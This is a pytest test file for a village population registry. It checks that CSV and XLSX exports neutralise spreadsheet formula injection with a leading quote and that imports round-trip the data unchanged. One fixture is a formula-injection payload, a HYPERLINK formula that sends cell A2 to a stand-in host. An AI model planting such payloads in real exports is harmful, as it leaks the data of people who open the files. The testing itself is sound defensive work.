"""Text that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab, CR first) is exported
with one leading quote, in CSV and XLSX, and the importer takes that quote off again: export → import
changes nothing."""

import csv
import io

import openpyxl
import pytest

from balai.registry.importing.engine import population_import
from balai.registry.importing.export import balai_rows, csv_stream, opensid_rows, write_xlsx
from balai.registry.importing.formats import formula_escape, formula_unescape
from balai.registry.models import Family, Person, normalise_name

from .builders import VILLAGE, balai_csv, family

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik")'


def hostile_register():
    rows = family(1, 1, size=4)
    rows[0].update(nama=HYPERLINK, telepon="+6281234567890")
    rows[1].update(nama="-Sulastri", tempat_lahir="@SUM(1+1)")
    rows[2].update(nama="=Sudah Berkutip", nama_ayah="+Slamet")
    rows[0]["alamat"] = "=1+1 Jl. Pantai"
    return rows


def import_hostile_register():
    rows = hostile_register()
    assert population_import(source=balai_csv(rows)).written
    # A name that really starts with a quote before "=" (an importer reads "'=…" in a file as "=…").
    quoted = "'=Sudah Berkutip"
    Person.objects.filter(nik=rows[2]["nik"]).update(name=quoted, name_search=normalise_name(quoted))


def snapshot():
    return (list(Person.objects.order_by("nik").values()), list(Family.objects.order_by("kk_number").values()))


def test_escape_adds_one_quote_only_before_formula_like_text_and_unescape_takes_it_off():
    assert formula_escape("=1+1") == "'=1+1"
    assert formula_escape("+62812") == "'+62812"
    assert formula_escape("-Budi") == "'-Budi"
    assert formula_escape("@SUM(A1)") == "'@SUM(A1)"
    assert formula_escape("\tx") == "'\tx" and formula_escape("\r=1") == "'\r=1"
    # a lone "-" (no RW/RT), ordinary text and text with a quote not before a formula stay as they are
    for plain in ("-", "=", "Siti Aminah", "", "O'Brien", "'Ardi", "3510016803870001"):
        assert formula_escape(plain) == plain
    # text already starting with a quote before a formula gets one more, so the round trip holds
    assert formula_escape("'=x") == "''=x"
    for value in ("=1+1", "'=x", "''+y", "-", "'Ardi", "O'Brien", "@a", "plain"):
        assert formula_unescape(formula_escape(value)) == value


def test_a_file_cell_with_the_export_quote_imports_as_the_text_after_it(regions):
    rows = family(1, 1, size=1, nama="'=Budi")
    rows[0]["nama"] = "'=Budi"
    population_import(source=balai_csv(rows))
    assert Person.objects.get().name == "=Budi"


def test_csv_export_writes_no_live_formula_and_round_trips(regions):
    import_hostile_register()
    assert Person.objects.filter(name=HYPERLINK).exists()  # stored as typed
    before = snapshot()
    text = "".join(csv_stream(balai_rows(VILLAGE)))
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert "'" + HYPERLINK in cells and "'+6281234567890" in cells and "'-Sulastri" in cells
    assert "'@SUM(1+1)" in cells and "''=Sudah Berkutip" in cells and "'+Slamet" in cells
    assert "'=1+1 Jl. Pantai" in cells
    assert not [c for c in cells if c[:1] in "=+-@\t\r" and len(c) > 1]
    report = population_import(source=io.BytesIO(text.encode("utf-8")))
    assert report.written and (report.created, report.updated, report.unchanged) == (0, 0, 4)
    assert snapshot() == before


def test_xlsx_export_holds_text_cells_not_formulas_and_round_trips(regions):
    import_hostile_register()
    before = snapshot()
    data = write_xlsx(balai_rows(VILLAGE), "Data Penduduk").read()
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Data Penduduk"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value not in (None, "")]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {"'" + HYPERLINK, "'+6281234567890", "''=Sudah Berkutip", "'=1+1 Jl. Pantai"} <= {c.value for c in cells}
    report = population_import(source=io.BytesIO(data))
    assert report.written and (report.created, report.updated, report.unchanged) == (0, 0, 4)
    assert snapshot() == before


def test_opensid_workbook_export_holds_no_formula_and_its_names_import_back_unchanged(regions):
    import_hostile_register()
    texts = ("nik", "name", "birth_place", "father_name", "family__address")
    before = list(Person.objects.order_by("nik").values_list(*texts))
    data = write_xlsx(opensid_rows(VILLAGE), "Data Penduduk").read()
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Data Penduduk"]
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    report = population_import(source=io.BytesIO(data), village_code=VILLAGE)
    assert report.written and report.created == 0
    assert list(Person.objects.order_by("nik").values_list(*texts)) == before
